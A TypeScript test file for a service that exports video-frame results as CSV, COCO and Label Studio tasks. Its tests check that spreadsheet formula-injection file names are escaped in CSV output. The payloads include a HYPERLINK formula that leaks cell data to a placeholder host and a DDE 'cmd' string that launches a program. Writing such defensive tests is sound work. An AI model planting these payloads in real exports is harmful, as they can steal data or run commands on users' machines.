import assert from "node:assert/strict";
import { framesAsCoco, framesAsCsv, framesAsTasks } from "../../../src/services/results/formats.ts";
import { parseFrameName } from "../../../src/services/results/parse-frame-name.ts";

describe("the name of a frame", () => {
  for (const [name, told] of [
    ["my_video-153-mp4.png", { video: "my_video.mp4", frame: 153 }],
    ["cam/front-2-0007-MOV.jpg", { video: "cam/front-2.MOV", frame: 7 }],
    ["photo-12.png", {}],
    ["holiday-12-sea.png", {}],
    ["plain.jpg", {}],
  ] as const) {
    it(`${name} contains ${JSON.stringify(told)}`, () => {
      assert.deepEqual(parseFrameName(name), told);
    });
  }
});

describe("the formats of a result", () => {
  it("quote cells of a CSV if necessary", () => {
    const name = 'a "b", c.png';
    assert.equal(
      framesAsCsv([{ fileName: name }, { fileName: "v-03-mp4.png", timeSeconds: 1.5 }]),
      'file_name,video,frame,time_seconds\r\n"a ""b"", c.png",,,\r\nv-03-mp4.png,v.mp4,3,1.5\r\n',
    );
  });

  for (const name of [
    '=HYPERLINK("http://x/?"&A1)-1-mp4.png',
    "=cmd|' /C calc'!A0.png",
    "+1+1.png",
    "-2+3.png",
    "@SUM(1).png",
    "\t=1.png",
    "\r=1.png",
    "\n=1.png",
    "＝1+1.png",
  ]) {
    it(`prevent ${JSON.stringify(name)} from being a formula in a CSV, and keep it in JSON`, () => {
      const [, ...cells] = framesAsCsv([{ fileName: name, video: name, frame: 1 }]).split(
        "file_name,video,frame,time_seconds\r\n",
      );
      const cell = /[",;\t\r\n]/.test(name) ? `"'${name.replaceAll('"', '""')}"` : `'${name}`;
      assert.deepEqual(cells, [`${cell},${cell},1,\r\n`]);
      assert.equal(framesAsCoco([{ fileName: name }], "x").images[0]?.file_name, name);
      assert.equal(framesAsTasks([{ fileName: name }], () => "x")[0]?.data.lightlyFileName, name);
    });
  }

  it("don't change a number, or a name with such characters in the middle, in a CSV", () => {
    const [, line] = framesAsCsv([{ fileName: "a=b+c-d@e.png", video: "a.mp4", frame: 3, timeSeconds: -0.5 }]).split(
      "\r\n",
    );
    assert.equal(line, "a=b+c-d@e.png,a.mp4,3,-0.5");
  });

  it("prefer Lightly's metadata to a name that looks like one of a frame", () => {
    const frame = { fileName: "v-03-mp4.png", video: "other.mp4", frame: 9 };
    assert.match(framesAsCsv([frame]), /v-03-mp4\.png,other\.mp4,9,/);
  });

  it("number the pictures of a COCO list from 1", () => {
    const { images } = framesAsCoco([{ fileName: "a.png" }, { fileName: "b.png", width: 4, height: 3 }], "two");
    assert.deepEqual(images, [
      { id: 1, file_name: "a.png" },
      { id: 2, file_name: "b.png", width: 4, height: 3 },
    ]);
  });

  it("contain the locations of the pictures in tasks for Label Studio", () => {
    assert.deepEqual(
      framesAsTasks([{ fileName: "v-3-mp4.png" }], ({ fileName }) => `s3://b/${fileName}`),
      [
        {
          id: 0,
          data: { image: "s3://b/v-3-mp4.png", lightlyFileName: "v-3-mp4.png", video: "v.mp4", frame: 3 },
        },
      ],
    );
  });
});
